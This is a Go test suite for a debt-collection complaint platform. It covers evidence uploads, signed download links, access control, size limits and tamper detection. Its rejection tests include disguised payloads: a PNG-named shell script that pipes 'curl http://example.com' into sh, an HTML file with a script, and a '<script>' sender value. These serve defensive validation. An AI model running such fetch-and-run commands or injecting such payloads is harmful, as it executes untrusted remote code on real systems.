package api_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"log/slog"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/redline-regulator/redline/app"
	"github.com/redline-regulator/redline/app/apptest"
	"github.com/redline-regulator/redline/domain"
)

// The evidence tests run the real platform (database, Redis, HTTP server) through apptest.

func pngBytes(t *testing.T) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
	for x := range 16 {
		img.Set(x, x, color.RGBA{R: 200, A: 255})
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func pdfBytes() []byte {
	return []byte("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
		"trailer << /Root 1 0 R >>\n%%EOF\n")
}

// mp3Bytes is three silent MPEG-1 layer III frames (128 kbit/s, 44.1 kHz, 417 bytes each), without
// an ID3 tag, as many call recorders write them.
func mp3Bytes() []byte {
	frame := make([]byte, 417)
	copy(frame, []byte{0xFF, 0xFB, 0x90, 0x64})
	return bytes.Repeat(frame, 3)
}

type uploadResult struct {
	Status int
	Body   struct {
		UploadToken string `json:"uploadToken"`
		SHA256      string `json:"sha256"`
		Size        int64  `json:"size"`
		ContentType string `json:"contentType"`
		Errors      []struct {
			Message    string         `json:"message"`
			Extensions map[string]any `json:"extensions"`
		} `json:"errors"`
	}
}

func (u uploadResult) code() string {
	if len(u.Body.Errors) == 0 {
		return ""
	}
	s, _ := u.Body.Errors[0].Extensions["code"].(string)
	return s
}

func (u uploadResult) field() string {
	if len(u.Body.Errors) == 0 {
		return ""
	}
	s, _ := u.Body.Errors[0].Extensions["field"].(string)
	return s
}

// upload posts content as the multipart field "file", declaring the given name and type.
func upload(t *testing.T, env *apptest.Env, token, name, declared string, content []byte) uploadResult {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="file"; filename=%q`, name))
	h.Set("Content-Type", declared)
	pw, _ := mw.CreatePart(h)
	pw.Write(content)
	mw.Close()
	req, _ := http.NewRequest(http.MethodPost, env.URL+"/evidence", &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	return sendUpload(t, req, token)
}

func sendUpload(t *testing.T, req *http.Request, token string) uploadResult {
	t.Helper()
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("upload: %v", err)
	}
	defer resp.Body.Close()
	var r uploadResult
	r.Status = resp.StatusCode
	if err := json.NewDecoder(resp.Body).Decode(&r.Body); err != nil {
		t.Fatalf("upload: decode answer (status %d): %v", resp.StatusCode, err)
	}
	return r
}

type download struct {
	Status int
	Header http.Header
	Body   []byte
}

func (d download) code() string {
	var e struct {
		Errors []struct {
			Extensions map[string]any `json:"extensions"`
		} `json:"errors"`
	}
	if json.Unmarshal(d.Body, &e) != nil || len(e.Errors) == 0 {
		return ""
	}
	s, _ := e.Errors[0].Extensions["code"].(string)
	return s
}

func get(t *testing.T, env *apptest.Env, token, link string) download {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, env.URL+link, nil)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("download: %v", err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return download{Status: resp.StatusCode, Header: resp.Header, Body: b}
}

const fileQuery = `mutation($i: FileComplaintInput!) { fileComplaint(input: $i) { id } }`

func fileComplaint(t *testing.T, env *apptest.Env, token string) string {
	t.Helper()
	in := map[string]any{
		"relation": "PARENT", "lenderName": "马上消费", "product": "CONSUMER_LOAN", "province": "310000",
		"narrative": "催收员每天打二十多个电话，还给我父母发短信说我是老赖。", "violations": []any{"THIRD_PARTY_CONTACT"},
	}
	return env.MustDo(t, token, fileQuery, map[string]any{"i": in})["fileComplaint"].(map[string]any)["id"].(string)
}

const addEvidence = `mutation($c: ID!, $t: String!, $d: String) {
  addEvidence(complaintId: $c, uploadToken: $t, description: $d) { id kind contentType size sha256 description uploadedAt downloadUrl } }`

const evidenceQuery = `query($id: ID!) { complaint(id: $id) {
  evidence { id kind contentType size sha256 description uploadedAt downloadUrl message { sender sentAt text } }
  history { action actorRole } } }`

func evidenceOf(t *testing.T, env *apptest.Env, token, complaintID string) []map[string]any {
	t.Helper()
	c := env.MustDo(t, token, evidenceQuery, map[string]any{"id": complaintID})["complaint"].(map[string]any)
	var out []map[string]any
	for _, e := range c["evidence"].([]any) {
		out = append(out, e.(map[string]any))
	}
	return out
}

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// TestEvidenceRoundTrip uploads a real PNG, PDF and MP3, attaches them, lists them and downloads
// them through their signed links: the same bytes and hash come back, to the owner and to the
// team's reviewer, and each attachment is in the history.
func TestEvidenceRoundTrip(t *testing.T) {
	env := apptest.Start(t, apptest.Options{})
	owner := env.Register(t, "owner@example.cn")
	id := fileComplaint(t, env, owner)

	files := []struct {
		name, declared string
		content        []byte
		contentType    string
		kind           string
	}{
		{"screenshot.png", "image/png", pngBytes(t), "image/png", "IMAGE"},
		{"letter.pdf", "application/pdf", pdfBytes(), "application/pdf", "DOCUMENT"},
		{"call.mp3", "application/octet-stream", mp3Bytes(), "audio/mpeg", "AUDIO"},
	}
	for _, f := range files {
		up := upload(t, env, owner, f.name, f.declared, f.content)
		if up.Status != http.StatusCreated || up.Body.SHA256 != sha(f.content) || up.Body.Size != int64(len(f.content)) || up.Body.ContentType != f.contentType {
			t.Fatalf("upload %s: status %d, %+v", f.name, up.Status, up.Body)
		}
		ev := env.MustDo(t, owner, addEvidence, map[string]any{"c": id, "t": up.Body.UploadToken, "d": "催收短信截图 " + f.name})["addEvidence"].(map[string]any)
		if ev["sha256"] != sha(f.content) || ev["kind"] != f.kind || ev["contentType"] != f.contentType {
			t.Errorf("addEvidence %s = %v", f.name, ev)
		}
	}

	list := evidenceOf(t, env, owner, id)
	if len(list) != len(files) {
		t.Fatalf("complaint has %d evidence items, want %d", len(list), len(files))
	}
	for i, e := range list {
		f := files[i]
		link, _ := e["downloadUrl"].(string)
		if !strings.HasPrefix(link, "/evidence/"+e["id"].(string)+"?") || !strings.Contains(link, "sig=") || !strings.Contains(link, "exp=") {
			t.Fatalf("downloadUrl = %q", link)
		}
		d := get(t, env, owner, link)
		if d.Status != http.StatusOK || !bytes.Equal(d.Body, f.content) || sha(d.Body) != e["sha256"] {
			t.Errorf("download %s: status %d, %d bytes, want the %d uploaded", f.name, d.Status, len(d.Body), len(f.content))
		}
		if d.Header.Get("Content-Type") != f.contentType || !strings.HasPrefix(d.Header.Get("Content-Disposition"), "attachment") {
			t.Errorf("download %s: headers %v", f.name, d.Header)
		}
	}
	c := env.MustDo(t, owner, evidenceQuery, map[string]any{"id": id})["complaint"].(map[string]any)
	added := 0
	for _, h := range c["history"].([]any) {
		if h.(map[string]any)["action"] == string(domain.ActionAddEvidence) {
			added++
		}
	}
	if added != len(files) {
		t.Errorf("history has %d EVIDENCE_ADDED entries, want %d", added, len(files))
	}

	// The east team's reviewer sees the routed complaint's evidence and gets links of their own.
	rev := env.Login(t, "reviewer@redline.demo", app.DemoPassword)
	apptest.Eventually(t, apptest.Patience, "the complaint to be routed to the east team", func() bool {
		return env.Do(t, rev, evidenceQuery, map[string]any{"id": id}).Code() == ""
	})
	rl := evidenceOf(t, env, rev, id)
	if d := get(t, env, rev, rl[0]["downloadUrl"].(string)); d.Status != http.StatusOK || !bytes.Equal(d.Body, files[0].content) {
		t.Errorf("reviewer's download: status %d", d.Status)
	}
	// The analyst sees no complaint and so no evidence.
	an := env.Login(t, "analyst@redline.demo", app.DemoPassword)
	if r := env.Do(t, an, evidenceQuery, map[string]any{"id": id}); r.Code() == "" {
		t.Errorf("analyst read the complaint's evidence")
	}
}

// TestEvidenceRefusals covers what must not get in or out: wrong types, over-size files, reused or
// foreign tokens, other people's complaints and links, expired links and tampered files.
func TestEvidenceRefusals(t *testing.T) {
	env := apptest.Start(t, apptest.Options{NoWork: true})
	owner := env.Register(t, "owner@example.cn")
	other := env.Register(t, "neighbour@example.cn")
	id := fileComplaint(t, env, owner)
	second := fileComplaint(t, env, owner)
	othersID := fileComplaint(t, env, other)
	img := pngBytes(t)

	t.Run("WrongTypes", func(t *testing.T) {
		for name, content := range map[string][]byte{
			"page.png":   []byte("<!DOCTYPE html><html><script>fetch('/graphql')</script></html>"),
			"run.png":    []byte("#!/bin/sh\ncurl http://example.com | sh\n"),
			"bundle.png": append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), make([]byte, 100)...),
			"notes.pdf":  []byte("just some text that is not a PDF"),
		} {
			up := upload(t, env, owner, name, "image/png", content)
			if up.Status != http.StatusBadRequest || up.code() != "BAD_USER_INPUT" || up.field() != "file" {
				t.Errorf("%s: status %d code %q field %q, want 400 BAD_USER_INPUT file", name, up.Status, up.code(), up.field())
			}
		}
		if up := upload(t, env, owner, "empty.png", "image/png", nil); up.Status != http.StatusBadRequest || up.field() != "file" {
			t.Errorf("empty file: status %d field %q", up.Status, up.field())
		}
	})

	t.Run("OverSizeStreamed", func(t *testing.T) {
		// A chunked body, so the server cannot tell the size in advance and must stop while streaming.
		pr, pw := io.Pipe()
		mw := multipart.NewWriter(pw)
		go func() {
			part, _ := mw.CreateFormFile("file", "video.png")
			part.Write(img[:16]) // a PNG signature, then more than the limit
			chunk := make([]byte, 1<<20)
			for range domain.DefaultEvidenceMaxBytes>>20 + 1 {
				if _, err := part.Write(chunk); err != nil {
					pw.CloseWithError(err)
					return
				}
			}
			mw.Close()
			pw.Close()
		}()
		req, _ := http.NewRequest(http.MethodPost, env.URL+"/evidence", pr)
		req.Header.Set("Content-Type", mw.FormDataContentType())
		up := sendUpload(t, req, owner)
		pr.Close()
		if up.Status != http.StatusRequestEntityTooLarge || up.code() != "BAD_USER_INPUT" || up.field() != "file" {
			t.Errorf("status %d code %q field %q, want 413 BAD_USER_INPUT file", up.Status, up.code(), up.field())
		}
		left, _ := os.ReadDir(filepath.Join(env.App.Config.Evidence.Dir, ".tmp"))
		if len(left) != 0 {
			t.Errorf("%d temporary files left behind", len(left))
		}
	})

	t.Run("ManyFieldsBeforeTheFile", func(t *testing.T) {
		// Empty fields before the file cost the reader ~64 µs each: 50 MiB of them held a core for a
		// minute (found by hand). At most 10 fields before "file"; 10 still work.
		for _, tc := range []struct {
			fields int
			status int
		}{{10, http.StatusCreated}, {11, http.StatusBadRequest}} {
			var body bytes.Buffer
			mw := multipart.NewWriter(&body)
			for i := range tc.fields {
				mw.WriteField(fmt.Sprintf("f%d", i), "x")
			}
			part, _ := mw.CreateFormFile("file", "shot.png")
			part.Write(img)
			mw.Close()
			req, _ := http.NewRequest(http.MethodPost, env.URL+"/evidence", &body)
			req.Header.Set("Content-Type", mw.FormDataContentType())
			up := sendUpload(t, req, owner)
			if up.Status != tc.status || tc.status == http.StatusBadRequest && (up.code() != "BAD_USER_INPUT" || up.field() != "file") {
				t.Errorf("%d fields before the file: status %d code %q field %q, want %d", tc.fields, up.Status, up.code(), up.field(), tc.status)
			}
		}
	})

	t.Run("OverSizeDeclared", func(t *testing.T) {
		req, _ := http.NewRequest(http.MethodPost, env.URL+"/evidence", io.LimitReader(zeros{}, domain.DefaultEvidenceMaxBytes+1<<20))
		req.ContentLength = domain.DefaultEvidenceMaxBytes + 1<<20
		req.Header.Set("Content-Type", "multipart/form-data; boundary=x")
		up := sendUpload(t, req, owner)
		if up.Status != http.StatusRequestEntityTooLarge || up.field() != "file" {
			t.Errorf("status %d field %q, want 413 on file", up.Status, up.field())
		}
	})

	t.Run("OnlyComplainantsUpload", func(t *testing.T) {
		if up := upload(t, env, "", "a.png", "image/png", img); up.Status != http.StatusUnauthorized || up.code() != "UNAUTHENTICATED" {
			t.Errorf("anonymous: status %d code %q", up.Status, up.code())
		}
		rev := env.Login(t, "reviewer@redline.demo", app.DemoPassword)
		if up := upload(t, env, rev, "a.png", "image/png", img); up.Status != http.StatusForbidden || up.code() != "FORBIDDEN" {
			t.Errorf("reviewer: status %d code %q", up.Status, up.code())
		}
	})

	up := upload(t, env, owner, "a.png", "image/png", img)
	if up.Status != http.StatusCreated {
		t.Fatalf("upload: %d %+v", up.Status, up.Body)
	}
	t.Run("TokenOfAnotherUser", func(t *testing.T) {
		r := env.Do(t, other, addEvidence, map[string]any{"c": othersID, "t": up.Body.UploadToken})
		if r.Code() != "BAD_USER_INPUT" || r.Field() != "uploadToken" {
			t.Errorf("code %q field %q, want BAD_USER_INPUT uploadToken", r.Code(), r.Field())
		}
	})
	t.Run("AnotherComplainantsComplaint", func(t *testing.T) {
		own := upload(t, env, other, "b.png", "image/png", img)
		if r := env.Do(t, other, addEvidence, map[string]any{"c": id, "t": own.Body.UploadToken}); r.Code() != "NOT_FOUND" {
			t.Errorf("attach to someone else's complaint: code %q, want NOT_FOUND", r.Code())
		}
		if r := env.Do(t, other, evidenceQuery, map[string]any{"id": id}); r.Code() != "NOT_FOUND" {
			t.Errorf("list someone else's evidence: code %q, want NOT_FOUND", r.Code())
		}
	})
	ev := env.MustDo(t, owner, addEvidence, map[string]any{"c": id, "t": up.Body.UploadToken})["addEvidence"].(map[string]any)
	t.Run("TokenReused", func(t *testing.T) {
		r := env.Do(t, owner, addEvidence, map[string]any{"c": id, "t": up.Body.UploadToken})
		if r.Code() != "BAD_USER_INPUT" || r.Field() != "uploadToken" {
			t.Errorf("reuse: code %q field %q", r.Code(), r.Field())
		}
	})
	t.Run("ClaimedByAnotherComplaint", func(t *testing.T) {
		r := env.Do(t, owner, addEvidence, map[string]any{"c": second, "t": up.Body.UploadToken})
		if r.Code() != "BAD_USER_INPUT" || r.Field() != "uploadToken" || !strings.Contains(r.Errors[0].Message, "another complaint") {
			t.Errorf("claim by another complaint: code %q field %q %v", r.Code(), r.Field(), r.Errors)
		}
		if n := len(evidenceOf(t, env, owner, second)); n != 0 {
			t.Errorf("the second complaint has %d evidence items, want 0", n)
		}
	})
	t.Run("ConcurrentClaims", func(t *testing.T) {
		u := upload(t, env, owner, "c.png", "image/png", img)
		var wg sync.WaitGroup
		codes := make([]string, 2)
		for i, c := range []string{id, second} {
			wg.Add(1)
			go func() {
				defer wg.Done()
				codes[i] = env.Do(t, owner, addEvidence, map[string]any{"c": c, "t": u.Body.UploadToken}).Code()
			}()
		}
		wg.Wait()
		if (codes[0] == "") == (codes[1] == "") {
			t.Errorf("two complaints claiming one upload at once: codes %q, want exactly one success", codes)
		}
	})

	link := ev["downloadUrl"].(string)
	t.Run("LinkOfAnotherUser", func(t *testing.T) {
		d := get(t, env, other, link)
		if d.Status != http.StatusForbidden || d.code() != "FORBIDDEN" || len(d.Body) > 1000 {
			t.Errorf("status %d code %q, want 403 FORBIDDEN", d.Status, d.code())
		}
	})
	t.Run("LinkWithoutAuthorization", func(t *testing.T) {
		if d := get(t, env, "", link); d.Status != http.StatusUnauthorized {
			t.Errorf("status %d, want 401", d.Status)
		}
	})
	t.Run("LinkTamperedWith", func(t *testing.T) {
		forged := strings.Replace(link, "exp=", "exp=9", 1)
		if d := get(t, env, owner, forged); d.Status != http.StatusForbidden || d.code() != "FORBIDDEN" {
			t.Errorf("status %d code %q, want 403 FORBIDDEN", d.Status, d.code())
		}
	})
	t.Run("LinkExpired", func(t *testing.T) {
		ownerID := userID(t, env, owner)
		past := domain.NewEvidenceLinks([]byte(app.DevSecret), domain.EvidenceLinkTTL, func() time.Time { return time.Now().Add(-6 * time.Minute) })
		old, _ := past.Sign(ev["id"].(string), ownerID)
		if d := get(t, env, owner, old); d.Status != http.StatusGone || d.code() != "FORBIDDEN" {
			t.Errorf("status %d code %q, want 410 FORBIDDEN", d.Status, d.code())
		}
	})

	t.Run("TamperedFile", func(t *testing.T) {
		var key string
		if err := env.App.DB.SQL.QueryRow(`SELECT storage_key FROM evidence WHERE id = $1`, ev["id"]).Scan(&key); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(env.App.Config.Evidence.Dir, filepath.FromSlash(key))
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		b[len(b)/2] ^= 0xFF
		if err := os.WriteFile(path, b, 0o600); err != nil {
			t.Fatal(err)
		}
		var logs syncBuffer
		prev := slog.Default()
		slog.SetDefault(slog.New(slog.NewTextHandler(&logs, nil)))
		defer slog.SetDefault(prev)

		d := get(t, env, owner, evidenceOf(t, env, owner, id)[0]["downloadUrl"].(string))
		if d.Status != http.StatusConflict || d.code() != "CONFLICT" || !strings.Contains(string(d.Body), "integrity") {
			t.Errorf("status %d body %s, want 409 CONFLICT about integrity", d.Status, d.Body)
		}
		if bytes.Contains(d.Body, b[:8]) || d.Header.Get("Content-Type") == "image/png" {
			t.Error("the tampered file was served")
		}
		line := logs.String()
		if !strings.Contains(line, "level=ERROR") || !strings.Contains(line, "integrity") || !strings.Contains(line, ev["id"].(string)) {
			t.Errorf("no error log line naming the evidence: %q", line)
		}
		for _, personal := range []string{"owner@example.cn", "马上消费", "老赖"} {
			if strings.Contains(line, personal) {
				t.Errorf("the log line carries personal data %q: %s", personal, line)
			}
		}
		// Removing the file altogether is reported the same way.
		os.Remove(path)
		if d := get(t, env, owner, evidenceOf(t, env, owner, id)[0]["downloadUrl"].(string)); d.Status != http.StatusConflict {
			t.Errorf("missing file: status %d, want 409", d.Status)
		}
	})

	t.Run("ClosedComplaint", func(t *testing.T) {
		if _, err := env.App.DB.SQL.Exec(`UPDATE complaints SET status = 'WITHDRAWN' WHERE id = $1`, second); err != nil {
			t.Fatal(err)
		}
		u := upload(t, env, owner, "d.png", "image/png", img)
		if r := env.Do(t, owner, addEvidence, map[string]any{"c": second, "t": u.Body.UploadToken}); r.Code() != "BAD_USER_INPUT" || r.Field() != "status" {
			t.Errorf("attach to a withdrawn complaint: code %q field %q", r.Code(), r.Field())
		}
	})
}

const addMessages = `mutation($c: ID!, $m: [CollectorMessageInput!]!) {
  addCollectorMessages(complaintId: $c, messages: $m) { id kind sha256 downloadUrl message { sender sentAt text } } }`

// TestCollectorMessages stores pasted messages as evidence and refuses invalid ones field by field.
func TestCollectorMessages(t *testing.T) {
	env := apptest.Start(t, apptest.Options{NoWork: true})
	owner := env.Register(t, "owner@example.cn")
	other := env.Register(t, "neighbour@example.cn")
	id := fileComplaint(t, env, owner)
	sent := time.Now().Add(-26 * time.Hour).UTC().Truncate(time.Second)
	msgs := []any{
		map[string]any{"sender": "10690000", "sentAt": sent.Format(time.RFC3339), "text": "【某某金融】您已逾期，今日不还款将联系您的通讯录好友。"},
		map[string]any{"sender": "+86 138 0013 8000", "sentAt": sent.Add(time.Hour).Format(time.RFC3339), "text": "再不还钱就去你单位找你"},
	}
	got := env.MustDo(t, owner, addMessages, map[string]any{"c": id, "m": msgs})["addCollectorMessages"].([]any)
	if len(got) != 2 {
		t.Fatalf("stored %d messages, want 2", len(got))
	}
	list := evidenceOf(t, env, owner, id)
	if len(list) != 2 {
		t.Fatalf("complaint lists %d evidence items, want 2", len(list))
	}
	for i, e := range list {
		want := msgs[i].(map[string]any)
		m := e["message"].(map[string]any)
		if e["kind"] != "MESSAGE" || e["downloadUrl"] != nil || m["sender"] != want["sender"] || m["text"] != want["text"] || m["sentAt"] != want["sentAt"] {
			t.Errorf("evidence %d = %v, want %v", i, e, want)
		}
		if e["sha256"] != sha([]byte(want["text"].(string))) {
			t.Errorf("evidence %d sha256 = %v", i, e["sha256"])
		}
	}

	bad := func(change func(m map[string]any)) []any {
		m := map[string]any{"sender": "10690000", "sentAt": sent.Format(time.RFC3339), "text": "还钱"}
		change(m)
		return []any{m}
	}
	tests := []struct {
		name  string
		msgs  []any
		field string
	}{
		{"ErrSender", bad(func(m map[string]any) { m["sender"] = "催收公司<script>" }), "messages.0.sender"},
		{"ErrSenderTooLong", bad(func(m map[string]any) { m["sender"] = strings.Repeat("1", 33) }), "messages.0.sender"},
		{"ErrSentAtFuture", bad(func(m map[string]any) { m["sentAt"] = time.Now().Add(2 * time.Hour).Format(time.RFC3339) }), "messages.0.sentAt"},
		{"ErrSentAtFormat", bad(func(m map[string]any) { m["sentAt"] = "yesterday" }), "messages.0.sentAt"},
		{"ErrTextEmpty", bad(func(m map[string]any) { m["text"] = "" }), "messages.0.text"},
		{"ErrTextTooLong", bad(func(m map[string]any) { m["text"] = strings.Repeat("催", 2001) }), "messages.0.text"},
		{"ErrTooMany", func() []any {
			var ms []any
			for range 101 {
				ms = append(ms, bad(func(map[string]any) {})[0])
			}
			return ms
		}(), "messages"},
		{"ErrNone", []any{}, "messages"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := env.Do(t, owner, addMessages, map[string]any{"c": id, "m": tt.msgs})
			if r.Code() != "BAD_USER_INPUT" || r.Field() != tt.field {
				t.Errorf("code %q field %q, want BAD_USER_INPUT %s (%v)", r.Code(), r.Field(), tt.field, r.Errors)
			}
		})
	}
	t.Run("AnotherComplainant", func(t *testing.T) {
		if r := env.Do(t, other, addMessages, map[string]any{"c": id, "m": msgs}); r.Code() != "NOT_FOUND" {
			t.Errorf("code %q, want NOT_FOUND", r.Code())
		}
	})
	if n := len(evidenceOf(t, env, owner, id)); n != 2 {
		t.Errorf("after the refusals the complaint lists %d items, want still 2", n)
	}
}

func userID(t *testing.T, env *apptest.Env, token string) int64 {
	t.Helper()
	s := env.MustDo(t, token, `{ me { id } }`, nil)["me"].(map[string]any)["id"].(string)
	id, err := strconv.ParseInt(s, 10, 64)
	if err != nil {
		t.Fatal(err)
	}
	return id
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// syncBuffer collects log output written from the server's goroutines.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}
